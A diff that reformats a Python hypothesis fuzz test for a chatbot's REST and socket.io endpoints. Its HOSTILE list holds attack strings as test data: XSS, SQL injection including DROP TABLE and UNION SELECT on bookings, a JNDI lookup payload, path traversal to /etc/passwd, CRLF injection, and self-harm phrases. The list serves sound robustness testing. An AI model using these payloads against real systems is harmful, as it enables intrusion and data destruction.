@@ -3,6 +3,7 @@ wrong types, huge, deeply nested, control characters, unicode edge cases, HTML/S
 text) for the public entry point (the load balancer, REST) and for the widget's socket.io
 channel. No 5xx, every 200 carries exactly one contract payload, the servers stay up, and valid
 visitors interleaved with the fuzz are answered correctly."""
+
 import asyncio
 import json
 import threading
@@ -24,14 +25,33 @@ CANARY_EVERY = 100
 UNAVAILABLE = knowledge_base().phrases["unavailable"]
 
 HOSTILE = [
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "'; DROP TABLE events; --",
-    "' OR '1'='1", "\" OR 1=1 --", "' UNION SELECT reference, contact FROM bookings --",
-    "{{ 7*7 }}", "${jndi:ldap://example.org/a}", "../../../../etc/passwd", "%00%0d%0a",
-    "\u202eevil\u202c", "\ufeffwhat is tms", "e\u0301" * 40, "𝕿𝕸𝕾 𝖍𝖚𝖗𝖙?", "🧠" * 200,
-    "\U0010ffff\U000e0001", "ｗｈａｔ ｉｓ ｔｍｓ", "Z̸̢̛̖a̷l̶g̵o̴" * 20, "\x00\x01\x1b[31m red",
-    "/inform{\"appointment_time\": \"2026-13-45T99:00:00Z\"}", "/restart", "/session_start",
-    "/book_evaluation{\"x\": [1, 2, {\"y\": null}]}", "/" + "a" * 500, "\r\n" * 300,
-    "i want to kill myself <script>", "DROP TABLE bookings; i want to end my life",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "'; DROP TABLE events; --",
+    "' OR '1'='1",
+    '" OR 1=1 --',
+    "' UNION SELECT reference, contact FROM bookings --",
+    "{{ 7*7 }}",
+    "${jndi:ldap://example.org/a}",
+    "../../../../etc/passwd",
+    "%00%0d%0a",
+    "\u202eevil\u202c",
+    "\ufeffwhat is tms",
+    "e\u0301" * 40,
+    "𝕿𝕸𝕾 𝖍𝖚𝖗𝖙?",
+    "🧠" * 200,
+    "\U0010ffff\U000e0001",
+    "ｗｈａｔ ｉｓ ｔｍｓ",
+    "Z̸̢̛̖a̷l̶g̵o̴" * 20,
+    "\x00\x01\x1b[31m red",
+    '/inform{"appointment_time": "2026-13-45T99:00:00Z"}',
+    "/restart",
+    "/session_start",
+    '/book_evaluation{"x": [1, 2, {"y": null}]}',
+    "/" + "a" * 500,
+    "\r\n" * 300,
+    "i want to kill myself <script>",
+    "DROP TABLE bookings; i want to end my life",
 ]
 
 json_scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=30))
@@ -40,19 +60,22 @@ json_values = st.recursive(
     lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
     max_leaves=12,
 )
-huge = st.builds(lambda chunk, times: chunk * times,
-                 st.sampled_from(["x", "what is tms ", "é", "🙂", "<b>", "\u0000", "'; --"]),
-                 st.integers(min_value=1000, max_value=40000))
+huge = st.builds(
+    lambda chunk, times: chunk * times,
+    st.sampled_from(["x", "what is tms ", "é", "🙂", "<b>", "\u0000", "'; --"]),
+    st.integers(min_value=1000, max_value=40000),
+)
 messages = st.one_of(
     st.text(max_size=200),
-    st.text(alphabet=st.characters(max_codepoint=0x9f), max_size=80),  # C0/C1 control characters
+    st.text(alphabet=st.characters(max_codepoint=0x9F), max_size=80),  # C0/C1 control characters
     st.sampled_from(HOSTILE),
     st.builds(lambda a, b: a + " " + b, st.sampled_from(HOSTILE), st.text(max_size=60)),
     huge,
 )
 # Mostly fresh visitors (hypothesis repeats short strings, which the rate limit then answers).
-senders = st.one_of(st.uuids().map(str), st.uuids().map(str), st.uuids().map(str),
-                    st.text(min_size=1, max_size=300))
+senders = st.one_of(
+    st.uuids().map(str), st.uuids().map(str), st.uuids().map(str), st.text(min_size=1, max_size=300)
+)
 
 
 def _dump(value) -> bytes:
@@ -62,9 +85,15 @@ def _dump(value) -> bytes:
 well_typed = st.builds(lambda s, m: _dump({"sender": s, "message": m}), senders, messages)
 bodies = st.one_of(
     # well-typed bodies with hostile messages: these reach Rasa (weighted: a third of the run)
-    well_typed, well_typed, well_typed,
-    st.builds(lambda s, m, x: _dump({"sender": s, "message": m, "metadata": x}), senders, messages,
-              st.one_of(st.dictionaries(st.text(max_size=8), json_values, max_size=4), json_values)),
+    well_typed,
+    well_typed,
+    well_typed,
+    st.builds(
+        lambda s, m, x: _dump({"sender": s, "message": m, "metadata": x}),
+        senders,
+        messages,
+        st.one_of(st.dictionaries(st.text(max_size=8), json_values, max_size=4), json_values),
+    ),
     # wrong types
     st.builds(lambda s, m: _dump({"sender": s, "message": m}), json_values, json_values),
     json_values.map(_dump),
@@ -72,16 +101,35 @@ bodies = st.one_of(
     st.binary(max_size=400),
     st.text(max_size=200).map(lambda t: t.encode("utf-8", "surrogatepass")),
     st.builds(lambda m, cut: _dump({"sender": "x", "message": m})[:cut], messages, st.integers(0, 60)),
-    st.sampled_from([b"", b"{", b"[", b"null", b"NaN", b"{\"sender\":}", b"\xff\xfe{}",
-                     b'{"sender": "a", "message": "\\ud800"}', b'{"sender": "\\u0000", "message": "hi"}',
-                     b'{"sender": "a", "message": "hi", "sender": ["b"]}',
-                     b'{"sender": 1e999, "message": "hi"}', b"[" * 50000 + b"]" * 50000,
-                     b'{"sender": "a", "message": "' + b"\\" * 10001 + b'"}']),
+    st.sampled_from(
+        [
+            b"",
+            b"{",
+            b"[",
+            b"null",
+            b"NaN",
+            b'{"sender":}',
+            b"\xff\xfe{}",
+            b'{"sender": "a", "message": "\\ud800"}',
+            b'{"sender": "\\u0000", "message": "hi"}',
+            b'{"sender": "a", "message": "hi", "sender": ["b"]}',
+            b'{"sender": 1e999, "message": "hi"}',
+            b"[" * 50000 + b"]" * 50000,
+            b'{"sender": "a", "message": "' + b"\\" * 10001 + b'"}',
+        ]
+    ),
     # over the load balancer's body limit
     st.just(b'{"sender": "big", "message": "' + b"x" * (2 << 20) + b'"}'),
 )
-content_types = st.sampled_from(["application/json", "application/json; charset=utf-8", "text/plain",
-                                 "application/x-www-form-urlencoded", None])
+content_types = st.sampled_from(
+    [
+        "application/json",
+        "application/json; charset=utf-8",
+        "text/plain",
+        "application/x-www-form-urlencoded",
+        None,
+    ]
+)
 methods = st.sampled_from(["POST"] * 12 + ["GET", "PUT", "DELETE"])
 
 
@@ -111,8 +159,13 @@ def test_rest_fuzz(stack):
     counts = Counts()
     session = requests.Session()
 
-    @settings(max_examples=REST_EXAMPLES, deadline=None, database=None, derandomize=False,
-              suppress_health_check=list(HealthCheck))
+    @settings(
+        max_examples=REST_EXAMPLES,
+        deadline=None,
+        database=None,
+        derandomize=False,
+        suppress_health_check=list(HealthCheck),
+    )
     @given(body=bodies, content_type=content_types, method=methods)
     def fuzz(body, content_type, method):
         headers = {"Content-Type": content_type} if content_type else {}
@@ -133,7 +186,10 @@ def test_rest_fuzz(stack):
             counts.reached += 1
         else:
             counts.statuses_4xx += 1
-            assert response.status_code in (400, 404, 405, 413, 429), (response.status_code, response.text[:300])
+            assert response.status_code in (400, 404, 405, 413, 429), (
+                response.status_code,
+                response.text[:300],
+            )
         if counts.inputs % CANARY_EVERY == 0:
             _canary(stack)
             counts.canaries += 1
@@ -220,13 +276,16 @@ class SocketVisitor:
 
 
 socket_payloads = st.one_of(
-    st.fixed_dictionaries({"message": messages}),                      # session id missing
+    st.fixed_dictionaries({"message": messages}),  # session id missing
     st.fixed_dictionaries({"message": json_values, "session_id": st.text(max_size=70)}),
-    json_values,                                                       # not an object
+    json_values,  # not an object
     st.fixed_dictionaries({"message": messages, "own_session": st.just(True)}),  # hostile text
 )
-session_requests = st.one_of(json_values, st.fixed_dictionaries({"session_id": json_values}),
-                             st.fixed_dictionaries({"session_id": st.text(max_size=80)}))
+session_requests = st.one_of(
+    json_values,
+    st.fixed_dictionaries({"session_id": json_values}),
+    st.fixed_dictionaries({"session_id": st.text(max_size=80)}),
+)
 
 
 def test_socketio_fuzz(stack):
@@ -235,8 +294,12 @@ def test_socketio_fuzz(stack):
     try:
         session = visitor.new_session()
 
-        @settings(max_examples=SOCKET_EXAMPLES, deadline=None, database=None,
-                  suppress_health_check=list(HealthCheck))
+        @settings(
+            max_examples=SOCKET_EXAMPLES,
+            deadline=None,
+            database=None,
+            suppress_health_check=list(HealthCheck),
+        )
         @given(payload=socket_payloads, request=st.one_of(st.none(), session_requests))
         def fuzz(payload, request):
             nonlocal inputs, slash_commands
@@ -280,6 +343,7 @@ def test_widget_over_websocket_through_the_load_balancer(stack):
         url = f"ws://127.0.0.1:{stack.lb_port}/socket.io/?EIO=4&transport=websocket"
         async with aiohttp.ClientSession() as client:
             async with client.ws_connect(url, headers={"Origin": stack.lb}) as ws:
+
                 async def receive(prefix):
                     while True:
                         message = await asyncio.wait_for(ws.receive_str(), 120)
@@ -288,14 +352,15 @@ def test_widget_over_websocket_through_the_load_balancer(stack):
                         elif message.startswith(prefix):
                             return message
 
-                await receive("0{")                       # engine.io open
-                await ws.send_str("40")                   # socket.io connect
+                await receive("0{")  # engine.io open
+                await ws.send_str("40")  # socket.io connect
                 await receive("40")
                 await ws.send_str("42" + json.dumps(["session_request", {"session_id": session_id}]))
                 confirm = json.loads((await receive('42["session_confirm"'))[2:])
                 assert confirm[1] == session_id
-                await ws.send_str("42" + json.dumps(["user_uttered", {"message": "what is tms",
-                                                                      "session_id": session_id}]))
+                await ws.send_str(
+                    "42" + json.dumps(["user_uttered", {"message": "what is tms", "session_id": session_id}])
+                )
                 while True:
                     event = json.loads((await receive('42["bot_uttered"'))[2:])[1]
                     if "custom" in event:
